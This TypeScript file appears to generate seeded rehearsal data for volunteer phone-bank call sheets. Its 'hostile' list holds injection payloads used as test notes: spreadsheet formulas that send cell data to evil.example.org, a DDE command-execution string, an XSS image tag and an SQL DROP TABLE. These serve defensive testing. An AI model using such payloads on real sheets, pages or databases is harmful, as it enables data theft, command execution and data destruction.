import { seeded } from '../../local/sample/seeded';
import type { CallSheetColumn } from './call-sheets';

/** What a volunteer types after one call, by column; nothing where nobody was called yet. */
export type Typed = Readonly<Partial<Record<CallSheetColumn, string>>>;

/** How one kind of call ends. */
interface Ending {
  /** The outcome's place in the dropdown, counted from 0; the default path has them in this order. */
  readonly outcome: number | null;
  readonly weight: number;
  /** Places in the dropdown of support levels that such a contact may have. */
  readonly levels?: readonly number[];
  readonly callBack?: true;
  readonly notes?: readonly string[];
}

/** Texts that would do harm where they were read as a formula, as HTML or as CSV. */
const hostile = [
  '=HYPERLINK("https://evil.example.org/?"&A1,"click")',
  '=IMPORTXML("https://evil.example.org","//a")',
  '+33 6 39 98 00 00',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '"; DROP TABLE contacts; --',
  "'=1+1",
];

const spoken = [
  'Prefers the evening / plutôt le soir',
  'Asked about the bus line',
  'Veut un panneau chez elle',
  'Line one\nline two',
];

/** How calls end in a rehearsal, and how often. */
const endings: readonly Ending[] = [
  { outcome: null, weight: 16 },
  { outcome: 1, weight: 24 },
  { outcome: 2, weight: 6 },
  { outcome: 3, weight: 8, callBack: true },
  { outcome: 4, weight: 2, notes: spoken },
  { outcome: 5, weight: 4, notes: [...spoken, ...hostile] },
  { outcome: 6, weight: 14, levels: [0, 1] },
  { outcome: 7, weight: 9, levels: [2] },
  { outcome: 8, weight: 6, levels: [3, 4] },
  { outcome: 9, weight: 2 },
  { outcome: 10, weight: 4 },
  { outcome: 11, weight: 3 },
  { outcome: 12, weight: 2, notes: hostile },
];

/** What the dropdowns of a call sheet offer. */
export interface Dropdowns {
  readonly outcomes: readonly string[];
  readonly levels: readonly string[];
}

/** Invents how calls end, one after the other, the same every time. */
export function inventCalls(seed: number, { outcomes, levels }: Dropdowns): () => Typed {
  const chance = seeded(seed);
  const weighted = endings.map((ending) => [ending, ending.weight] as const);
  const from = (texts: readonly string[], place: number): string => texts[place] ?? '';
  return () => {
    const { outcome, levels: known, callBack, notes } = chance.weighted(weighted);
    if (outcome === null) return {};
    const day = String(chance.whole(9, 28)).padStart(2, '0');
    return {
      outcome: from(outcomes, outcome),
      ...(known && chance.happens(0.7) ? { supportLevel: from(levels, chance.pick(known)) } : {}),
      ...(callBack ? { callBackOn: `${day}/03/2026` } : {}),
      ...(notes && chance.happens(0.6) ? { notes: chance.pick(notes) } : {}),
    };
  };
}
